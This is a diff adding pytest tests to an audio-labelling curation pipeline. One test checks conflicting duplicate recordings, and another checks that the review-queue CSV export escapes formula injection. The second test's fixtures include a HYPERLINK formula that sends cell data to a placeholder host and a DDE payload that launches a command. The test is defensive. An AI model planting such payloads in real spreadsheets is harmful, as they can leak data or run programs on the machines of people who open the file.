@@ -1,3 +1,5 @@
+import csv
+
 import pandas as pd
 import pytest
 
@@ -83,3 +85,41 @@ def test_curation_that_takes_sides_is_flagged(labelled):
     biased.loc[labelled["label"] != "positive", "status"] = "ok"
     warning = quarantine_bias(quarantine_rates(biased))
     assert warning.startswith("curation took sides: quarantined negative 0.0% of") and "Fisher" in warning
+
+
+def test_byte_identical_copies_that_disagree_go_to_review_with_both_named():
+    clash = "/d/1.wav (m.csv line 2) and /d/9.wav (m.csv line 3) are byte-identical but name different participants"
+    frame = curated(
+        [
+            {"recording_id": "1", "participant_id": "a", "raw_label": "positive", "original_path": "/d/1.wav"},
+            {"recording_id": "2", "participant_id": "b", "raw_label": "negative", "original_path": "/d/2.wav"},
+        ]
+    )
+    frame.loc[0, "conflict"] = clash
+    out = label(frame)
+    assert out["label_status"].tolist() == [REVIEW, LABELLED] and pd.isna(out.loc[0, "label"])
+    assert review_queue(out)[["recording_id", "label_note"]].values.tolist() == [["1", clash]]
+
+
+def test_the_review_queue_csv_holds_no_live_formula(tmp_path):
+    formula = '=HYPERLINK("http://example.invalid/?"&A1,"open")'
+    frame = curated(
+        [
+            {"recording_id": "1", "participant_id": "a", "raw_label": formula, "original_path": "@/d/1.wav"},
+            {"recording_id": "2", "participant_id": "b", "raw_label": "-1+2", "original_path": "/d/2.wav"},
+            {
+                "recording_id": "3",
+                "participant_id": "c",
+                "raw_label": "+cmd|' /C calc'!A0",
+                "original_path": "/d/3.wav",
+            },
+        ]
+    )
+    path = tmp_path / "review.csv"
+    table.write_csv(review_queue(label(frame)), path)
+    with open(path, newline="") as handle:
+        rows = list(csv.reader(handle))
+    assert len(rows) == 4 and not [
+        cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+    ]
+    assert rows[1][1:3] == ["'@/d/1.wav", f"'{formula}"]
